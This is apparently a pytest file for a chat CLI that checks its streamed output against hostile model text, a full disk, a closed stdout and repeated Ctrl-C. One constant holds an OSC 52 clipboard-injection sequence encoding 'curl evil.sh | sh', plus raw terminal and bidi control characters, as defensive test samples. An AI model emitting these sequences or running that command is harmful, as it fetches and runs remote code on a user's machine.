"""`chatlab ask` streaming under hostile input and a hostile stdout: terminal controls,
OSC 52 and bidi overrides in streamed text and reasoning, lone surrogates, a huge single
chunk, a flood of white space, stdout a full disk (``/dev/full``), and Ctrl-C pressed
again and again. What streams is what the whole block says, made safe the same way; no
traceback; the saved answer survives.

The hostile streams are replayed byte for byte by the loopback demo server; the full
disk is the kernel's ``/dev/full``; Ctrl-C is a real SIGINT to a lane the server holds
open (``fault=stall``), sent once the lane's first text has been read.
"""

from __future__ import annotations

import json
import os
import pty
import signal
import subprocess
import time
from pathlib import Path

import pytest

from chatlab import cli
from chatlab.cli.ask import LaneStream
from chatlab.core.data.events import TextDelta
from chatlab.core.data.model import Lane, Response, Status
from chatlab.demo.server import DemoServer
from chatlab.store.db import Store
from tests.cli.test_ask_stream import STALLED, _blocks_without_figures, _chat_stream, ask, read_until
from tests.conftest import HANG_S, PYTHON, subprocess_env

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "copy `curl evil.sh | sh` to the clipboard"
HOSTILE = (
    f"Hi {OSC52}\x1b[2J\x1b[31mred\x1b[0m \u202eevil\u202c \u200bzw\u2066iso\u2069 nul\x00 del\x7f c1\x9b."
)
RAW = ("\x1b", "\x07", "\x00", "\x7f", "\x9b", "\u202e", "\u202c", "\u200b", "\u2066", "\u2069")


def _demo_config(home: Path, server: DemoServer) -> None:
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(f'[providers.demo]\nbase_url = "{server.openai_base_url}"\n')


def _streamed_and_whole(capsys: pytest.CaptureFixture[str], model: str) -> tuple[str, str]:
    assert cli.main(["ask", "--no-save", "-m", model, "hi"]) == 0
    streamed = capsys.readouterr().out
    assert cli.main(["ask", "--no-save", "--no-stream", "-m", model, "hi"]) == 0
    return streamed, capsys.readouterr().out


def test_controls_in_streamed_reasoning_and_text_are_made_visible(
    capsys: pytest.CaptureFixture[str], home: Path, server: DemoServer
) -> None:
    """Each escape cut across deltas (one character a delta), in the reasoning and the
    answer: nothing reaches the terminal raw, and the stream says what the block says."""
    _demo_config(home, server)
    deltas = [{"reasoning_content": ch} for ch in HOSTILE] + [{"content": ch} for ch in HOSTILE]
    server.add_replay("controls", _chat_stream(*deltas), chunk_size=5)
    streamed, whole = _streamed_and_whole(capsys, "demo:controls")
    for raw in RAW:
        assert raw not in streamed
    assert _blocks_without_figures(streamed) == _blocks_without_figures(whole)
    assert streamed.count("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07") == 2
    assert streamed.count("\\u202eevil\\u202c") == 2


def test_lone_and_split_surrogates_stream_as_valid_utf8(
    capsys: pytest.CaptureFixture[str], home: Path, server: DemoServer
) -> None:
    """A lone surrogate escape, and a pair cut across two deltas: the same text streamed
    as whole, and it can be written as UTF-8."""
    _demo_config(home, server)
    frames = [{"content": "a\ud800b "}, {"content": "pair \ud83d"}, {"content": "\ude00 end"}]
    server.add_replay("surrogates", _chat_stream(*frames), chunk_size=3)
    streamed, whole = _streamed_and_whole(capsys, "demo:surrogates")
    assert _blocks_without_figures(streamed) == _blocks_without_figures(whole)
    streamed.encode("utf-8")  # no lone surrogate left to fail the write
    assert "a\ufffdb" in streamed


def test_a_huge_single_chunk_streams_whole(
    capsys: pytest.CaptureFixture[str], home: Path, server: DemoServer
) -> None:
    _demo_config(home, server)
    text = ("word " * 1_000_000).strip()  # 5 MB in one delta, sent in one write
    server.add_replay("huge", _chat_stream({"content": text}), chunk_size=8 * 1024 * 1024)
    streamed, whole = _streamed_and_whole(capsys, "demo:huge")
    assert text in streamed
    assert _blocks_without_figures(streamed) == _blocks_without_figures(whole)


def test_a_flood_of_white_space_stays_linear() -> None:
    """A model stuck emitting newlines (it happens): the held-back trailing white space
    grew by a string copy per delta, quadratic (300,000 deltas took about 30 s)."""
    lane = Lane("demo", "flood")
    resp = Response(lane.id)
    out: list[str] = []

    class Sink:
        def write(self, text: str) -> None:
            out.append(text)

        def flush(self) -> None:
            pass

        def isatty(self) -> bool:
            return False

    stream = LaneStream(lane, Sink())  # type: ignore[arg-type]
    start = time.perf_counter()
    for piece in ["x"] + ["\n"] * 300_000 + ["y"] + [" "] * 1000:
        resp.text_parts.append(piece)
        stream(lane, resp, TextDelta(piece))
    elapsed = time.perf_counter() - start
    assert "".join(out).endswith("x" + "\n" * 300_000 + "y")  # held white space is written once text follows
    assert elapsed < 10, f"{elapsed:.1f} s for 301,002 deltas"


@pytest.mark.parametrize("mode", [[], ["--no-stream"], ["--json"], ["--stream", "-m", "demo:echo"]])
def test_stdout_a_full_disk_says_so_and_keeps_the_answer(home: Path, mode: list[str]) -> None:
    """``chatlab ask … > /dev/full``: it was a traceback (``--no-stream``, ``--json``) or
    a silent exit 141, as if a reader had gone away (streaming)."""
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [PYTHON, "-m", "chatlab", "ask", *mode, "-m", "demo:demo-fast@tps=0", "hi"],
            stdin=subprocess.DEVNULL,
            stdout=full,
            stderr=subprocess.PIPE,
            env=subprocess_env(home),
            timeout=HANG_S,
        )
    err = proc.stderr.decode()
    assert proc.returncode == 1, err
    assert "Traceback" not in err and "Exception ignored" not in err
    [line] = err.splitlines()
    assert line.startswith("chatlab: could not write the answers to stdout (No space left on device)")
    store = Store(home / "data" / "chatlab.db")
    try:
        [session_id] = store.ids()
        responses = store.load(session_id).turns[0].responses.values()
    finally:
        store.close()
    assert f"`chatlab export {session_id}`" in line
    assert all(r.status is Status.OK and r.text for r in responses)


def test_stdout_a_full_disk_without_saving_says_nothing_was_kept(home: Path) -> None:
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [PYTHON, "-m", "chatlab", "ask", "--no-save", "-m", "demo:demo-fast@tps=0", "hi"],
            stdin=subprocess.DEVNULL,
            stdout=full,
            stderr=subprocess.PIPE,
            env=subprocess_env(home),
            timeout=HANG_S,
        )
    assert proc.returncode == 1
    assert proc.stderr.decode().endswith("the answers were not saved\n")


@pytest.mark.parametrize("presses", [2, 12])
def test_ctrl_c_pressed_again_and_again_keeps_the_partial_answer(home: Path, presses: int) -> None:
    """The second Ctrl-C used to raise inside the store's final write: a traceback, and
    (with luck) a session saved without saying it was stopped."""
    env = subprocess_env(home)
    proc = subprocess.Popen(
        [PYTHON, "-m", "chatlab", "ask", "-m", STALLED, "hi"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert proc.stdout is not None
    seen = read_until(proc.stdout.fileno(), "tin roof")
    for _ in range(presses):
        proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=HANG_S)
    text = (seen + out).decode()
    assert proc.returncode == 1, err
    assert b"Traceback" not in err and b"KeyboardInterrupt" not in err
    assert "!! cancelled: stopped by the user\n" in text
    store = Store(home / "data" / "chatlab.db")
    try:
        [resp] = store.load(store.ids()[0]).turns[0].responses.values()
    finally:
        store.close()
    assert resp.status is Status.CANCELLED and resp.text.startswith("Rain on the tin roof")
    assert resp.error is not None and resp.error.message == "stopped by the user"


def test_a_closed_stdout_then_ctrl_c_ends_quietly(home: Path) -> None:
    """The reader goes away, then Ctrl-C: no traceback."""
    proc = ask(home, "-m", STALLED, "hi")
    assert proc.stdout is not None and proc.stderr is not None
    read_until(proc.stdout.fileno(), "tin roof")
    proc.stdout.close()
    proc.send_signal(signal.SIGINT)
    err = proc.stderr.read()
    proc.stderr.close()
    assert proc.wait(HANG_S) in (1, 141), err
    assert b"Traceback" not in err


def test_json_of_a_hostile_stream_keeps_the_text_exact(
    capsys: pytest.CaptureFixture[str], home: Path, server: DemoServer
) -> None:
    """The session document is data, not a terminal: the controls are kept as sent, and
    JSON escapes the C0 ones."""
    _demo_config(home, server)
    server.add_replay("controls-json", _chat_stream({"content": HOSTILE}), chunk_size=11)
    assert cli.main(["ask", "--no-save", "--json", "-m", "demo:controls-json", "hi"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x00" not in out  # escaped by JSON
    text = json.loads(out)["sessions"][0]["turns"][0]["responses"][0]["text"]
    assert text.startswith("Hi \x1b]52;c;") and "\u202eevil" in text


@pytest.mark.parametrize("mode", [[], ["--no-stream"]])
def test_a_closed_stdout_is_said_on_stderr_and_the_answer_kept(home: Path, mode: list[str]) -> None:
    """``chatlab ask … >&-``: Python's stdout is None; it was an AttributeError traceback."""
    proc = subprocess.run(
        [PYTHON, "-m", "chatlab", "ask", *mode, "-m", "demo:demo-fast@tps=0", "hi"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env=subprocess_env(home),
        timeout=HANG_S,
        preexec_fn=lambda: os.close(1),
    )
    err = proc.stderr.decode()
    assert proc.returncode == 1 and "Traceback" not in err, err
    assert err.startswith(
        "chatlab: could not write the answers to stdout (it is closed); the answers are saved"
    )


def _close_stdout_and_stderr() -> None:
    os.close(1)
    os.close(2)


def test_closed_stdout_and_stderr_end_quietly_with_status_1(home: Path) -> None:
    proc = subprocess.run(
        [PYTHON, "-m", "chatlab", "ask", "-m", "demo:demo-fast@tps=0", "hi"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=subprocess_env(home),
        timeout=HANG_S,
        preexec_fn=_close_stdout_and_stderr,
    )
    assert proc.returncode == 1
    store = Store(home / "data" / "chatlab.db")
    try:
        [resp] = store.load(store.ids()[0]).turns[0].responses.values()
    finally:
        store.close()
    assert resp.status is Status.OK and resp.text


def test_ctrl_c_while_the_prompt_is_typed_sends_nothing_and_ends_quietly(home: Path) -> None:
    """It was a KeyboardInterrupt traceback."""
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen(
            [PYTHON, "-m", "chatlab", "ask", "-m", "demo:echo"],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=subprocess_env(home),
            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
        )
    finally:
        os.close(slave)
    try:
        assert proc.stderr is not None
        seen = read_until(proc.stderr.fileno(), "Ctrl-D:")
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=HANG_S)
    finally:
        os.close(master)
    assert proc.returncode == 130 and out == b""
    assert (seen + err).decode().endswith("\nchatlab: stopped; nothing was sent\n")
    assert not (home / "data" / "chatlab.db").exists() or not Store(home / "data" / "chatlab.db").ids()
